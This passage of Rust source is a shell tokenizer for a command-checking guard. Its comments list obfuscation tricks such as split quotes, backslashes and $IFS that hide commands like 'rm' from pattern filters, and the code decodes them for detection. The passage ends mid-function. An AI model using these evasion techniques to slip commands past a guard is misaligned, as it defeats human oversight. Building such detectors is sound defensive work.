//! A POSIX-shell tokenizer for judging commands without running them.
//!
//! It sees through what attackers use to hide a command from a pattern:
//! quotes (`'r''m'`, `"r"m`), backslashes (`\rm`, `r\m`), `$IFS`, positional
//! parameters, absolute program paths, wrappers (`env`, `command`, `exec`,
//! `sudo`, `nohup`, `nice`, `timeout`, `xargs`, …), chains (`;` `&&` `||`
//! `|` `&`), subshells and groups, command and process substitution
//! (`$(…)`, backticks, `<(…)`), nested shells (`sh -c '…'`, `su -c`,
//! `eval`). Each sub-command is produced separately so it can be judged.
//! Fixed capacity, no allocation, never panics; anything beyond capacity is
//! [`ShellError::TooComplex`] (the policy then fails closed).

/// Total bytes of all unquoted words.
pub const MAX_BYTES: usize = 8192;
/// Most words.
pub const MAX_WORDS: usize = 512;
/// Most sub-commands.
pub const MAX_COMMANDS: usize = 64;
/// Most function definitions remembered.
pub const MAX_FUNCTIONS: usize = 8;
/// Deepest nesting of substitutions and nested shells.
pub const MAX_DEPTH: usize = 8;
/// Most pending substitutions at one level.
const MAX_PENDING: usize = 32;

/// Wrapper bits: `sudo`.
pub const WRAP_SUDO: u16 = 1 << 0;
/// Wrapper bits: `env`.
pub const WRAP_ENV: u16 = 1 << 1;
/// Wrapper bits: `exec`.
pub const WRAP_EXEC: u16 = 1 << 2;
/// Wrapper bits: `command`.
pub const WRAP_COMMAND: u16 = 1 << 3;
/// Wrapper bits: `xargs`.
pub const WRAP_XARGS: u16 = 1 << 4;
/// Wrapper bits: `nohup`.
pub const WRAP_NOHUP: u16 = 1 << 5;
/// Wrapper bits: `timeout`.
pub const WRAP_TIMEOUT: u16 = 1 << 6;
/// Wrapper bits: `doas`.
pub const WRAP_DOAS: u16 = 1 << 7;
/// Wrapper bits: any other wrapper (`nice`, `time`, `stdbuf`, …).
pub const WRAP_OTHER: u16 = 1 << 8;

/// What the command line contains besides plain words.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Flags {
    /// `;`, `&&`, `||` or a newline between commands.
    pub chain: bool,
    /// `|`.
    pub pipe: bool,
    /// `&` (background job).
    pub background: bool,
    /// `$(…)`, backticks or process substitution.
    pub substitution: bool,
    /// `(…)` or `{ …; }`.
    pub subshell: bool,
    /// `>`, `<`, `>>`, `2>&1`, …
    pub redirect: bool,
    /// `<<` here-document or `<<<` here-string.
    pub heredoc: bool,
    /// A variable reference other than `$IFS` (kept literally).
    pub variable: bool,
    /// `$IFS` used as a separator.
    pub ifs: bool,
    /// `sh -c`, `su -c` or `eval`.
    pub nested_shell: bool,
    /// `sudo` (or `doas`) as a wrapper.
    pub sudo: bool,
    /// Non-ASCII bytes anywhere.
    pub non_ascii: bool,
    /// A `#` comment.
    pub comment: bool,
    /// A positional parameter (`$1`, `$@`, `$*`): its value is not known
    /// here (it expands to nothing in the words).
    pub positional: bool,
    /// A function definition (`name() { …; }`, `function name`).
    pub function: bool,
}

/// Word kinds ([`Command::word_kind`]).
pub mod word {
    /// An ordinary word.
    pub const PLAIN: u8 = 0;
    /// The target of an output redirection (`>`, `>>`, `&>`, `>|`).
    pub const REDIRECT_OUT: u8 = 1;
    /// The source of an input redirection (`<`).
    pub const REDIRECT_IN: u8 = 2;
    /// Text fed to the command's standard input: a here-string (`<<<`) or
    /// a here-document's body.
    pub const HERE_TEXT: u8 = 3;
}

/// Input bits of a command ([`Command::input`]).
pub mod input {
    /// Standard input comes from the previous command of a pipeline.
    pub const PIPE: u8 = 1 << 0;
    /// A process substitution (`<(…)`) is one of its operands.
    pub const PROCESS_SUBSTITUTION: u8 = 1 << 1;
}

/// Why a command line could not be tokenised.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ShellError {
    /// A quote or substitution is not closed.
    Unterminated,
    /// A capacity or the nesting depth was exceeded.
    TooComplex,
    /// A NUL byte.
    Nul,
}

#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Span {
    start: u16,
    end: u16,
}

#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Cmd {
    first: u16,
    count: u16,
    program: u16,
    wrappers: u16,
    input: u8,
    depth: u8,
}

/// Bytes of a command line: the checked text of its words, or text a
/// command runs as commands. As a stack local, nothing but its length is
/// written before it is filled (a `heapless::String` is cleared whole).
type Text = heapless::Vec<u8, MAX_BYTES>;

/// The words' checked text: the buffer while it is being filled, then the
/// text it holds.
enum WordText<'b> {
    Filling(&'b mut Text),
    Checked(&'b str),
}

/// The buffers a [`Parsed`] fills, owned together: for a host, which may
/// box them. The guard's judge declares them as separate locals instead
/// (`parsed_on_stack!`): a struct of buffers built from constants is
/// emitted as one constant and cleared whole (21 KiB per command line),
/// separate locals are not.
pub struct ParseBuffers {
    bytes: heapless::Vec<u8, MAX_BYTES>,
    words: heapless::Vec<Span, MAX_WORDS>,
    kinds: heapless::Vec<u8, MAX_WORDS>,
    functions: heapless::Vec<Span, MAX_FUNCTIONS>,
    cmds: heapless::Vec<Cmd, MAX_COMMANDS>,
    text: Text,
    text_words: heapless::Vec<Span, MAX_WORDS>,
}

impl Default for ParseBuffers {
    fn default() -> Self {
        Self::new()
    }
}

impl ParseBuffers {
    /// Empty buffers.
    pub const fn new() -> Self {
        ParseBuffers {
            bytes: heapless::Vec::new(),
            words: heapless::Vec::new(),
            kinds: heapless::Vec::new(),
            functions: heapless::Vec::new(),
            cmds: heapless::Vec::new(),
            text: heapless::Vec::new(),
            text_words: heapless::Vec::new(),
        }
    }

    /// A [`Parsed`] over these buffers, ready for [`parse`] (which empties
    /// them first).
    pub fn parsed(&mut self) -> Parsed<'_> {
        Parsed::over(
            &mut self.bytes,
            &mut self.words,
            &mut self.kinds,
            &mut self.functions,
            &mut self.cmds,
            &mut self.text,
            &mut self.text_words,
        )
    }
}

/// Declares `$name`, a [`Parsed`] over buffers that are separate locals of
/// the caller (nothing but their lengths is written before parsing).
macro_rules! parsed_on_stack {
    ($name:ident) => {
        let mut bytes = heapless::Vec::new();
        let mut words = heapless::Vec::new();
        let mut kinds = heapless::Vec::new();
        let mut functions = heapless::Vec::new();
        let mut cmds = heapless::Vec::new();
        let mut text = heapless::Vec::new();
        let mut text_words = heapless::Vec::new();
        let mut $name = $crate::shell::Parsed::over(
            &mut bytes,
            &mut words,
            &mut kinds,
            &mut functions,
            &mut cmds,
            &mut text,
            &mut text_words,
        );
    };
}
pub(crate) use parsed_on_stack;

/// The tokenised command line, in buffers it borrows.
pub struct Parsed<'b> {
    bytes: &'b mut heapless::Vec<u8, MAX_BYTES>,
    words: &'b mut heapless::Vec<Span, MAX_WORDS>,
    /// One per word.
    kinds: &'b mut heapless::Vec<u8, MAX_WORDS>,
    /// Names of the functions the line defines.
    functions: &'b mut heapless::Vec<Span, MAX_FUNCTIONS>,
    cmds: &'b mut heapless::Vec<Cmd, MAX_COMMANDS>,
    /// Once the line is parsed: every word, checked as UTF-8 once and
    /// copied here (a word that is not UTF-8 is empty), so reading a word
    /// again and again checks nothing more.
    text: WordText<'b>,
    /// The words' spans in `text`; empty while the line is being parsed.
    text_words: &'b mut heapless::Vec<Span, MAX_WORDS>,
    /// What the command line contains.
    pub flags: Flags,
}

impl<'b> Parsed<'b> {
    /// A result over the given buffers, ready for [`parse`] (which empties
    /// them first).
    #[allow(clippy::too_many_arguments)]
    pub(crate) fn over(
        bytes: &'b mut heapless::Vec<u8, MAX_BYTES>,
        words: &'b mut heapless::Vec<Span, MAX_WORDS>,
        kinds: &'b mut heapless::Vec<u8, MAX_WORDS>,
        functions: &'b mut heapless::Vec<Span, MAX_FUNCTIONS>,
        cmds: &'b mut heapless::Vec<Cmd, MAX_COMMANDS>,
        text: &'b mut Text,
        text_words: &'b mut heapless::Vec<Span, MAX_WORDS>,
    ) -> Self {
        let text = WordText::Filling(text);
        Parsed { bytes, words, kinds, functions, cmds, text, text_words, flags: Flags::default() }
    }

    /// The sub-commands, in order of appearance (nested ones after the
    /// command line that contains them).
    pub fn commands(&self) -> impl Iterator<Item = Command<'_>> {
        self.cmds.iter().map(move |&cmd| Command { parsed: self, cmd })
    }

    /// Number of sub-commands.
    pub fn command_count(&self) -> usize {
        self.cmds.len()
    }

    fn word(&self, index: usize) -> &str {
        if let (WordText::Checked(text), Some(span)) = (&self.text, self.text_words.get(index)) {
            return text.get(span.start as usize..span.end as usize).unwrap_or("");
        }
        let Some(span) = self.words.get(index) else { return "" };
        let bytes = self.bytes.get(span.start as usize..span.end as usize).unwrap_or(&[]);
        core::str::from_utf8(bytes).unwrap_or("")
    }

    /// Copies every word into `text` (see there) and checks the copy as
    /// UTF-8 once: a result parsed again reads its words from the bytes.
    /// (Words never share bytes, so they fit; if they did not, words are
    /// read from the bytes as before.)
    ///
    /// When the joined words are UTF-8, a word whose span starts and ends on
    /// character boundaries is UTF-8 itself, and one whose span does not is
    /// not (it starts or ends inside a character): reading the span from
    /// the checked text, or `""` where it is not a string, gives what
    /// checking each word alone gives. When they are not, every word is read
    /// from the bytes, checked alone, as before.
    fn finish_words(&mut self) {
        let WordText::Filling(buf) = core::mem::replace(&mut self.text, WordText::Checked("")) else { return };
        buf.clear();
        for span in self.words.iter() {
            let bytes = self.bytes.get(span.start as usize..span.end as usize).unwrap_or(&[]);
            let start = buf.len();
            let fits = buf.extend_from_slice(bytes).is_ok()
                && self.text_words.push(Span { start: start as u16, end: buf.len() as u16 }).is_ok();
            if !fits {
                self.text_words.clear();
                return;
            }
        }
        let checked: &'b Text = buf;
        match core::str::from_utf8(checked) {
            Ok(text) => self.text = WordText::Checked(text),
            Err(_) => self.text_words.clear(),
        }
    }

    fn push_byte(&mut self, b: u8) -> Result<(), ShellError> {
        self.bytes.push(b).map_err(|_| ShellError::TooComplex)
    }

    fn push_bytes(&mut self, bytes: &[u8]) -> Result<(), ShellError> {
        bytes.iter().try_for_each(|&b| self.push_byte(b))
    }
}

/// One sub-command.
#[derive(Clone, Copy)]
pub struct Command<'a> {
    parsed: &'a Parsed<'a>,
    cmd: Cmd,
}

impl<'a> Command<'a> {
    /// The program's basename after wrappers ("" if there is none).
    pub fn program(&self) -> &'a str {
        let end = self.cmd.first as usize + self.cmd.count as usize;
        if (self.cmd.program as usize) >= end {
            return "";
        }
        basename(self.parsed.word(self.cmd.program as usize))
    }

    /// The words after the program.
    pub fn args(&self) -> impl Iterator<Item = &'a str> + 'a {
        let parsed = self.parsed;
        let end = self.cmd.first as usize + self.cmd.count as usize;
        (self.cmd.program as usize + 1..end).map(move |i| parsed.word(i))
    }

    /// Every word, wrappers included.
    pub fn words(&self) -> impl Iterator<Item = &'a str> + 'a {
        let parsed = self.parsed;
        let first = self.cmd.first as usize;
        (first..first + self.cmd.count as usize).map(move |i| parsed.word(i))
    }

    /// The wrappers seen before the program (`WRAP_*` bits).
    pub fn wrappers(&self) -> u16 {
        self.cmd.wrappers
    }

    /// The program word as written (with its directory, if any).
    pub fn program_word(&self) -> &'a str {
        let end = self.cmd.first as usize + self.cmd.count as usize;
        if (self.cmd.program as usize) >= end {
            return "";
        }
        self.parsed.word(self.cmd.program as usize)
    }

    /// The words after the program with their kinds ([`word`]).
    pub fn args_with_kinds(&self) -> impl Iterator<Item = (&'a str, u8)> + 'a {
        let parsed = self.parsed;
        let end = self.cmd.first as usize + self.cmd.count as usize;
        (self.cmd.program as usize + 1..end)
            .map(move |i| (parsed.word(i), parsed.kinds.get(i).copied().unwrap_or(word::PLAIN)))
    }

    /// The operands: the words after the program that are neither
    /// redirections nor standard-input text.
    pub fn operands(&self) -> impl Iterator<Item = &'a str> + 'a {
        self.args_with_kinds().filter(|(_, k)| *k == word::PLAIN).map(|(w, _)| w)
    }

    /// The here-string or here-document body fed to the command, if any.
    pub fn here_text(&self) -> Option<&'a str> {
        self.args_with_kinds().find(|(_, k)| *k == word::HERE_TEXT).map(|(w, _)| w)
    }

    /// The assignments before the program (`NAME=value` words).
    pub fn assignments(&self) -> impl Iterator<Item = &'a str> + 'a {
        let parsed = self.parsed;
        let first = self.cmd.first as usize;
        (first..self.cmd.program as usize).map(move |i| parsed.word(i)).filter(|w| is_assignment(w))
    }

    /// Whether the program is a function the command line defines.
    pub fn calls_function(&self) -> bool {
        let name = self.program_word();
        let parsed = self.parsed;
        !name.is_empty()
            && parsed
                .functions
                .iter()
                .any(|span| parsed.bytes.get(span.start as usize..span.end as usize) == Some(name.as_bytes()))
    }

    /// Input bits ([`input`]).
    pub fn input(&self) -> u8 {
        self.cmd.input
    }

    /// Nesting depth: 0 for the command line itself, more inside `sh -c`,
    /// `eval`, substitutions and here-documents fed to a shell.
    pub fn depth(&self) -> usize {
        self.cmd.depth as usize
    }
}

/// Whether `w` is a shell assignment (`NAME=value`).
pub fn is_assignment(w: &str) -> bool {
    w.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(is_name_byte) && !name.as_bytes()[0].is_ascii_digit()
    })
}

/// Whether `program` is a shell: it runs its `-c` string, or its standard
/// input, as commands.
pub fn is_shell(program: &str) -> bool {
    matches!(
        program,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "mksh" | "fish" | "csh" | "tcsh" | "yash" | "posh"
    )
}

fn basename(word: &str) -> &str {
    crate::path::file_name(word)
}

/// Tokenises `command` into `out` (which is reset first).
pub fn parse(command: &str, out: &mut Parsed<'_>) -> Result<(), ShellError> {
    out.bytes.clear();
    out.words.clear();
    out.kinds.clear();
    out.cmds.clear();
    out.text_words.clear();
    out.flags = Flags::default();
    if command.as_bytes().contains(&0) {
        return Err(ShellError::Nul);
    }
    out.flags.non_ascii = !command.is_ascii();
    out.functions.clear();
    parse_level(command.as_bytes(), out, 0)?;
    out.finish_words();
    Ok(())
}

/// Lexer state for one level.
struct Level {
    in_word: bool,
    word_start: usize,
    cmd_start: usize,
    pending: [(usize, usize); MAX_PENDING],
    npending: usize,
    /// The kind of the next word to end (after a redirection operator).
    next_kind: u8,
    /// Input bits of the command being read.
    input: u8,
    /// The next command reads a pipe.
    piped: bool,
    /// A here-document's delimiter seen on this line, body not yet read.
    heredoc: Option<(usize, usize, bool)>,
    depth: u8,
}

impl Level {
    fn end_word(&mut self, p: &mut Parsed<'_>) -> Result<(), ShellError> {
        if !self.in_word {
            return Ok(());
        }
        self.in_word = false;
        let span = Span { start: self.word_start as u16, end: p.bytes.len() as u16 };
        // `{` and `}` alone are grouping, not words.
        let text = p.bytes.get(self.word_start..).unwrap_or(&[]);
        if text == b"{" || text == b"}" {
            p.bytes.truncate(self.word_start);
            p.flags.subshell = true;
            return self.end_cmd(p);
        }
        p.words.push(span).map_err(|_| ShellError::TooComplex)?;
        // `kinds` has the capacity of `words`: this push cannot fail.
        let _ = p.kinds.push(core::mem::replace(&mut self.next_kind, word::PLAIN));
        Ok(())
    }

    fn start_word(&mut self, p: &Parsed<'_>) {
        if !self.in_word {
            self.in_word = true;
            self.word_start = p.bytes.len();
        }
    }

    fn end_cmd(&mut self, p: &mut Parsed<'_>) -> Result<(), ShellError> {
        if p.words.len() > self.cmd_start {
            let cmd = Cmd {
                first: self.cmd_start as u16,
                count: (p.words.len() - self.cmd_start) as u16,
                program: self.cmd_start as u16,
                wrappers: 0,
                input: self.input | if self.piped { input::PIPE } else { 0 },
                depth: self.depth,
            };
            p.cmds.push(cmd).map_err(|_| ShellError::TooComplex)?;
            self.piped = false;
        }
        self.input = 0;
        self.next_kind = word::PLAIN;
        self.cmd_start = p.words.len();
        Ok(())
    }

    fn defer(&mut self, start: usize, end: usize) -> Result<(), ShellError> {
        let slot = self.pending.get_mut(self.npending).ok_or(ShellError::TooComplex)?;
        *slot = (start, end);
        self.npending += 1;
        Ok(())
    }
}

/// Index of the `)` closing a `(` whose content starts at `from`.
fn matching_paren(s: &[u8], from: usize) -> Option<usize> {
    let mut depth = 1usize;
    let mut i = from;
    while let Some(&c) = s.get(i) {
        match c {
            b'\\' => i += 1,
            b'\'' => i += s.get(i + 1..)?.iter().position(|&b| b == b'\'')? + 1,
            b'"' => {
                i += 1;
                while let Some(&d) = s.get(i) {
                    match d {
                        b'\\' => i += 1,
                        b'"' => break,
                        _ => {}
                    }
                    i += 1;
                }
                s.get(i)?;
            }
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

fn is_name_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Handles `$…` at `s[i]`; returns the index after it.
fn dollar(s: &[u8], i: usize, p: &mut Parsed<'_>, lv: &mut Level) -> Result<usize, ShellError> {
    match s.get(i + 1).copied() {
        Some(b'\'') => ansi_c_string(s, i + 2, p, lv),
        Some(b'"') => {
            // `$"…"`: a translatable string, read as a double-quoted one.
            lv.start_word(p);
            Ok(i + 1)
        }
        Some(b'(') if s.get(i + 2) == Some(&b'(') => {
            // Arithmetic: kept literally.
            let close = matching_paren(s, i + 2).ok_or(ShellError::Unterminated)?;
            let end = if s.get(close + 1) == Some(&b')') { close + 2 } else { close + 1 };
            lv.start_word(p);
            p.push_bytes(s.get(i..end).unwrap_or(&[]))?;
            Ok(end)
        }
        Some(b'(') => {
            let close = matching_paren(s, i + 2).ok_or(ShellError::Unterminated)?;
            p.flags.substitution = true;
            lv.defer(i + 2, close)?;
            lv.start_word(p);
            p.push_bytes(s.get(i..close + 1).unwrap_or(&[]))?;
            Ok(close + 1)
        }
        Some(b'{') => {
            let close = i
                + 2
                + s.get(i + 2..).and_then(|r| r.iter().position(|&b| b == b'}')).ok_or(ShellError::Unterminated)?;
            let name = s.get(i + 2..close).unwrap_or(&[]);
            if name == b"IFS" {
                p.flags.ifs = true;
                lv.end_word(p)?;
            } else {
                p.flags.variable = true;
                lv.start_word(p);
                p.push_bytes(s.get(i..close + 1).unwrap_or(&[]))?;
            }
            Ok(close + 1)
        }
        Some(c) if c.is_ascii_digit() => {
            // Positional (`$1`): kept, for the judge to expand with what
            // `set --` gave it (one digit: `$12` is `${1}2`).
            p.flags.positional = true;
            p.flags.variable = true;
            lv.start_word(p);
            p.push_bytes(&[b'$', c])?;
            Ok(i + 2)
        }
        Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
            let mut end = i + 1;
            while s.get(end).is_some_and(|&b| is_name_byte(b)) {
                end += 1;
            }
            if s.get(i + 1..end) == Some(b"IFS") {
                p.flags.ifs = true;
                lv.end_word(p)?;
            } else {
                p.flags.variable = true;
                lv.start_word(p);
                p.push_bytes(s.get(i..end).unwrap_or(&[]))?;
            }
            Ok(end)
        }
        Some(c) if b"@*#?$!-".contains(&c) => {
            p.flags.variable = true;
            p.flags.positional |= c == b'@' || c == b'*';
            lv.start_word(p);
            p.push_bytes(&[b'$', c])?;
            Ok(i + 2)
        }
        _ => {
            lv.start_word(p);
            p.push_byte(b'$')?;
            Ok(i + 1)
        }
    }
}

/// `$'…'` (ANSI-C quoting) whose body starts at `s[start]`: the escapes
/// are decoded as the shell does (`\x72\x6d` is `rm`), so that a word
/// written this way is judged as what it says. Returns the index after
/// the closing quote.
fn ansi_c_string(s: &[u8], start: usize, p: &mut Parsed<'_>, lv: &mut Level) -> Result<usize, ShellError> {
    lv.start_word(p);
    let mut i = start;
    loop {
        let c = *s.get(i).ok_or(ShellError::Unterminated)?;
        if c == b'\'' {
            return Ok(i + 1);
        }
        if c != b'\\' {
            p.push_byte(c)?;
            i += 1;
            continue;
        }
        let e = *s.get(i + 1).ok_or(ShellError::Unterminated)?;
        i += 2;
        let simple = match e {
            b'n' => Some(b'\n'),
            b't' => Some(b'\t'),
            b'r' => Some(b'\r'),
            b'a' => Some(7),
            b'b' => Some(8),
            b'e' | b'E' => Some(27),
            b'f' => Some(12),
            b'v' => Some(11),
            b'\\' | b'\'' | b'"' | b'?' => Some(e),
            _ => None,
        };
        if let Some(byte) = simple {
            p.push_byte(byte)?;
            continue;
        }
        // \xHH, \NNN (octal), \uHHHH, \UHHHHHHHH, \cX.
        let (radix, max) = match e {
            b'x' => (16, 2),
            b'u' => (16, 4),
            b'U' => (16, 8),
            b'0'..=b'7' => {
                i -= 1;
                (8, 3)
            }
            b'c' => {
                let x = *s.get(i).ok_or(ShellError::Unterminated)?;
                p.push_byte(x & 0x1f)?;
                i += 1;
                continue;
            }
            _ => {
                p.push_bytes(&[b'\\', e])?;
                continue;
            }
        };
        let mut value: u32 = 0;
        let mut digits = 0;
        while digits < max {
            let Some(d) = s.get(i).and_then(|&c| (c as char).to_digit(radix)) else { break };
            value = value * radix + d;
            i += 1;
            digits += 1;
        }
        if digits == 0 {
            p.push_bytes(&[b'\\', e])?;
            continue;
        }
        match e {
            b'u' | b'U' => {
                let ch = char::from_u32(value).unwrap_or('\u{fffd}');
                let mut utf8 = [0u8; 4];
                p.push_bytes(ch.encode_utf8(&mut utf8).as_bytes())?;
            }
            _ => {
                let byte = (value & 0xff) as u8;
                if byte == 0 {
                    // The shell cuts the string at NUL.
                    return Err(ShellError::Nul);
                }
                p.push_byte(byte)?;
            }
        }
    }
}

/// Backtick substitution at `s[i]`; returns the index after it.
fn backtick(s: &[u8], i: usize, p: &mut Parsed<'_>, lv: &mut Level) -> Result<usize, ShellError> {
    let mut j = i + 1;
    loop {
        match s.get(j) {
            None => return Err(ShellError::Unterminated),
            Some(b'\\') => j += 2,
            Some(b'`') => break,
            Some(_) => j += 1,
        }
    }
    p.flags.substitution = true;
    lv.defer(i + 1, j)?;
    lv.start_word(p);
    p.push_bytes(s.get(i..j + 1).unwrap_or(&[]))?;
    Ok(j + 1)
}

fn parse_level(s: &[u8], p: &mut Parsed<'_>, depth: usize) -> Result<(), ShellError> {
    if depth > MAX_DEPTH {
        return Err(ShellError::TooComplex);
    }
    let first_cmd = p.cmds.len();
    let mut lv = Level {
        in_word: false,
        word_start: 0,
        cmd_start: p.words.len(),
        pending: [(0, 0); MAX_PENDING],
        npending: 0,
        next_kind: word::PLAIN,
        input: 0,
        piped: false,
        heredoc: None,
        depth: depth.min(u8::MAX as usize) as u8,
    };
    let mut i = 0;
    while let Some(&c) = s.get(i) {
        match c {
            b' ' | b'\t' | b'\r' => {
                lv.end_word(p)?;
                i += 1;
            }
            b'\n' if lv.heredoc.is_some() => {
                // The body of a here-document: the lines up to its
                // delimiter, one HERE_TEXT word of the command.
                lv.end_word(p)?;
                let (d_start, d_end, strip_tabs) = lv.heredoc.take().unwrap_or((0, 0, false));
                let delimiter = s.get(d_start..d_end).unwrap_or(&[]);
                let body_start = i + 1;
                let mut line = body_start;
                let mut body_end = s.len();
                let mut after = s.len();
                while line < s.len() {
                    let line_end =
                        s.get(line..).and_then(|r| r.iter().position(|&b| b == b'\n')).map_or(s.len(), |n| line + n);
                    let mut text = s.get(line..line_end).unwrap_or(&[]);
                    if strip_tabs {
                        while let [b'\t', rest @ ..] = text {
                            text = rest;
                        }
                    }
                    if text == delimiter {
                        body_end = line;
                        after = line_end;
                        break;
                    }
                    line = line_end + 1;
                }
                lv.next_kind = word::HERE_TEXT;
                lv.start_word(p);
                p.push_bytes(s.get(body_start..body_end.max(body_start)).unwrap_or(&[]))?;
                lv.end_word(p)?;
                lv.end_cmd(p)?;
                p.flags.chain = true;
                i = after;
            }
            b'\n' | b';' => {
                lv.end_word(p)?;
                lv.end_cmd(p)?;
                p.flags.chain = true;
                i += if c == b';' && s.get(i + 1) == Some(&b';') { 2 } else { 1 };
            }
            b'&' => {
                lv.end_word(p)?;
                match s.get(i + 1) {
                    Some(b'&') => {
                        p.flags.chain = true;
                        lv.end_cmd(p)?;
                        i += 2;
                    }
                    Some(b'>') => {
                        p.flags.redirect = true;
                        i += if s.get(i + 2) == Some(&b'>') { 3 } else { 2 };
                    }
                    _ => {
                        p.flags.background = true;
                        lv.end_cmd(p)?;
                        i += 1;
                    }
                }
            }
            b'|' => {
                lv.end_word(p)?;
                lv.end_cmd(p)?;
                match s.get(i + 1) {
                    Some(b'|') => {
                        p.flags.chain = true;
                        i += 2;
                    }
                    Some(b'&') => {
                        p.flags.pipe = true;
                        lv.piped = true;
                        i += 2;
                    }
                    _ => {
                        p.flags.pipe = true;
                        lv.piped = true;
                        i += 1;
                    }
                }
            }
            b'(' | b')' => {
                // `name()`: a function definition.
                if c == b'(' && lv.in_word && s.get(i + 1) == Some(&b')') {
                    p.flags.function = true;
                    let span = Span { start: lv.word_start as u16, end: p.bytes.len() as u16 };
                    // More functions than kept: the flag above already says so.
                    let _ = p.functions.push(span);
                }
                lv.end_word(p)?;
                lv.end_cmd(p)?;
                p.flags.subshell = true;
                i += 1;
            }
            b'<' | b'>' => {
                // A pure number before the operator is a file descriptor.
                if lv.in_word && p.bytes.get(lv.word_start..).is_some_and(|w| w.iter().all(u8::is_ascii_digit)) {
                    p.bytes.truncate(lv.word_start);
                    lv.in_word = false;
                }
                lv.end_word(p)?;
                if s.get(i + 1) == Some(&b'(') {
                    // Process substitution.
                    let close = matching_paren(s, i + 2).ok_or(ShellError::Unterminated)?;
                    p.flags.substitution = true;
                    lv.input |= input::PROCESS_SUBSTITUTION;
                    lv.defer(i + 2, close)?;
                    i = close + 1;
                    continue;
                }
                p.flags.redirect = true;
                let mut j = i + 1;
                lv.next_kind = if c == b'<' { word::REDIRECT_IN } else { word::REDIRECT_OUT };
                if c == b'<' && s.get(j) == Some(&b'<') {
                    p.flags.heredoc = true;
                    j += 1;
                    if s.get(j) == Some(&b'<') {
                        // Here-string: the next word is standard input.
                        j += 1;
                        lv.next_kind = word::HERE_TEXT;
                    } else {
                        let strip_tabs = s.get(j) == Some(&b'-');
                        if strip_tabs {
                            j += 1;
                        }
                        while matches!(s.get(j), Some(b' ' | b'\t')) {
                            j += 1;
                        }
                        // The delimiter, its quotes removed; not a word.
                        let start = j;
                        while s.get(j).is_some_and(|b| {
                            !matches!(b, b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')')
                        }) {
                            j += 1;
                        }
                        let raw = s.get(start..j).unwrap_or(&[]);
                        let (d_start, d_end) = match raw {
                            [b'\'' | b'"', .., b'\'' | b'"'] if raw.len() >= 2 => (start + 1, j - 1),
                            [b'\\', ..] => (start + 1, j),
                            _ => (start, j),
                        };
                        lv.heredoc = Some((d_start, d_end, strip_tabs));
                        lv.next_kind = word::PLAIN;
                    }
                } else if c == b'<' && s.get(j) == Some(&b'&') {
                    j += 1;
                    while s.get(j).is_some_and(|b| b.is_ascii_digit() || *b == b'-') {
                        j += 1;
                    }
                    lv.next_kind = word::PLAIN;
                } else if matches!(s.get(j), Some(b'>') | Some(b'|') | Some(b'&')) {
                    j += 1;
                    // `>&2`, `2>&1`: the fd number is not a word.
                    let digits = j;
                    while s.get(j).is_some_and(|b| b.is_ascii_digit() || *b == b'-') {
                        j += 1;
                    }
                    if j > digits {
                        lv.next_kind = word::PLAIN;
                    }
                }
                i = j;
            }
            b'#' if !lv.in_word => {
                p.flags.comment = true;
                while s.get(i).is_some_and(|&b| b != b'\n') {
                    i += 1;
                }
            }
            b'\\' => {
                match s.get(i + 1) {
                    Some(b'\n') => {}
                    Some(&n) => {
                        lv.start_word(p);
                        p.push_byte(n)?;
                    }
                    None => {}
                }
                i += 2;
            }
            b'\'' => {
                let close = i
                    + 1
                    + s.get(i + 1..)
                        .and_then(|r| r.iter().position(|&b| b == b'\''))
                        .ok_or(ShellError::Unterminated)?;
                lv.start_word(p);
                p.push_bytes(s.get(i + 1..close).unwrap_or(&[]))?;
                i = close + 1;
            }
            b'"' => {
                lv.start_word(p);
                i += 1;
                loop {
                    match s.get(i).copied() {
                        None => return Err(ShellError::Unterminated),
                        Some(b'"') => {
                            i += 1;
                            break;
                        }
                        Some(b'\\') => {
                            match s.get(i + 1).copied() {
                                Some(b'\n') => {}
                                Some(n @ (b'"' | b'\\' | b'$' | b'`')) => p.push_byte(n)?,
                                Some(n) => p.push_bytes(&[b'\\', n])?,
                                None => return Err(ShellError::Unterminated),
                            }
                            i += 2;
                        }
                        Some(b'$') => {
                            let was = lv.in_word;
                            i = dollar(s, i, p, &mut lv)?;
                            // `$IFS` inside quotes is not a separator.
                            if was && !lv.in_word {
                                lv.start_word(p);
                            }
                        }
                        Some(b'`') => i = backtick(s, i, p, &mut lv)?,
                        Some(b) => {
                            p.push_byte(b)?;
                            i += 1;
                        }
                    }
                }
            }
            b'`' => i = backtick(s, i, p, &mut lv)?,
            b'$' => i = dollar(s, i, p, &mut lv)?,
            _ => {
                lv.start_word(p);
                p.push_byte(c)?;
                i += 1;
            }
        }
    }
    lv.end_word(p)?;
    lv.end_cmd(p)?;

    // Programs, then nested shells, then substitutions.
    let last_cmd = p.cmds.len();
    for k in first_cmd..last_cmd {
        resolve_program(p, k);
    }
    for k in first_cmd..last_cmd {
        nested(p, k, depth)?;
    }
    for &(start, end) in &lv.pending[..lv.npending] {
        parse_level(s.get(start..end).unwrap_or(&[]), p, depth + 1)?;
    }
    Ok(())
}

/// Skips assignments and wrappers; records the program index and wrappers.
fn resolve_program(p: &mut Parsed<'_>, k: usize) {
    let Some(cmd) = p.cmds.get(k).copied() else { return };
    let end = cmd.first as usize + cmd.count as usize;
    let mut i = cmd.first as usize;
    let mut wrappers = 0u16;
    // Reserved words that introduce the command after them.
    while i < end && matches!(p.word(i), "if" | "then" | "else" | "elif" | "do" | "while" | "until" | "!") {
        i += 1;
    }
    while i < end && is_assignment(p.word(i)) {
        i += 1;
    }
    if i < end && p.word(i) == "function" {
        p.flags.function = true;
        if i + 1 < end
            && let Some(&span) = p.words.get(i + 1)
        {
            // More functions than kept: the flag above already says so.
            let _ = p.functions.push(span);
        }
    }
    // Options of a wrapper: (takes an argument?) per option word.
    let mut last_wrapper = None;
    loop {
        if i >= end {
            break;
        }
        let name = basename(p.word(i));
        let (bit, with_arg): (u16, &[&str]) = match name {
